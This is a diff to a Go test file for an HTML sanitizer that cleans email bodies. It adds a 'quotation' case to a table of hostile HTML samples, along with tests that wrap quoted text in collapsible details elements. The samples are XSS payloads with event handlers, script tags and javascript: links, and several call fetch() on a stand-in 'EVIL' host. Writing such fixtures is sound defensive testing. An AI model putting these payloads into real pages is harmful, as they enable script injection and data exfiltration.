@@ -5,6 +5,7 @@ import (
 	"testing"
 
 	"golang.org/x/net/html"
+	"golang.org/x/net/html/atom"
 )
 
 // An attack is an HTML body that wants more than to be read. EVIL is where it calls home.
@@ -36,6 +37,7 @@ func attacks() []attack {
 		{"unclosed", "<p>hello</p><scr\x00ipt>fetch('EVIL/21')</scr\x00ipt><img src='x' onerror='alert(1)' <img src=x onerror=fetch('EVIL/21b')//<!-- <b>--!><a href=\"javascript:alert(1)"},
 		{"clobber", `<p>hello</p><a id=parent name=opener></a><img name=cookie id=body><details open ontoggle="fetch('EVIL/22')">x</details><marquee onstart=alert(1)>y</marquee><a id=go ping="EVIL/22b" href="https://example.com/">https://example.com/</a>`},
 		{"template", `<p>hello</p><template shadowrootmode=open><img src=x onerror="fetch('EVIL/23')"><slot></slot></template><xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>`},
+		{"quotation", `<p>hello</p><details open ontoggle="fetch('EVIL/25')"><summary onclick="fetch('EVIL/25b')">Quoted text</summary><blockquote cite="EVIL/25c"><img src="EVIL/25d"><details open><script>alert(1)</script></details></blockquote></details>`},
 		{"depth", `<p>hello</p>` + strings.Repeat("<div>", 5000) + `<img src="EVIL/24">`},
 	}
 }
@@ -57,7 +59,7 @@ func TestAttacks(t *testing.T) {
 				t.Fatal(err)
 			}
 			harmless(t, a.name, root, images)
-			if again := (&cleaner{images: images}).clean(got); again != "<div>"+got+"</div>" && !strings.Contains(got, `class="address"`) {
+			if again := (&cleaner{images: images}).clean(got); again != "<div>"+got+"</div>" && !strings.Contains(got, `class="address"`) && !strings.Contains(got, "<details>") {
 				t.Errorf("%s: cleaned once %s\ncleaned twice %s", a.name, got, again)
 			}
 		}
@@ -75,7 +77,7 @@ func harmless(t *testing.T, name string, n *html.Node, images bool) {
 				t.Errorf("%s: a style sheet", name)
 			}
 		default:
-			if !kept(n.DataAtom) || n.Namespace != "" {
+			if !kept(n.DataAtom) && n.DataAtom != atom.Details && n.DataAtom != atom.Summary || n.Namespace != "" {
 				t.Errorf("%s: element %s", name, n.Data)
 			}
 		}
@@ -109,6 +111,8 @@ func TestClean(t *testing.T) {
 		{`<a href="mailto:a@b.example">a@b.example</a>`, `<div><a href="mailto:a@b.example" rel="noopener noreferrer nofollow" target="_blank">a@b.example</a></div>`, 0},
 		{`<img src="cid:a%40b" alt="A"><img src="cid:other" alt="B"><img src="https://x.example/c" alt="C">`, `<div><img src="data:x" alt="A"/>[B][C]</div>`, 1},
 		{`<table bgcolor=red><tr><td colspan=2>x</table>`, `<div><table bgcolor="red"><tbody><tr><td colspan="2">x</td></tr></tbody></table></div>`, 0},
+		{"<blockquote>a<blockquote>b</blockquote></blockquote>c", "<div><details><summary>Quoted text</summary><blockquote>a<blockquote>b</blockquote></blockquote></details>c</div>", 0},
+		{"<details open><summary>x</summary>y</details>", "<div>xy</div>", 0},
 		{"", "<div></div>", 0},
 	} {
 		c := cleaner{picture: func(cid string) string {
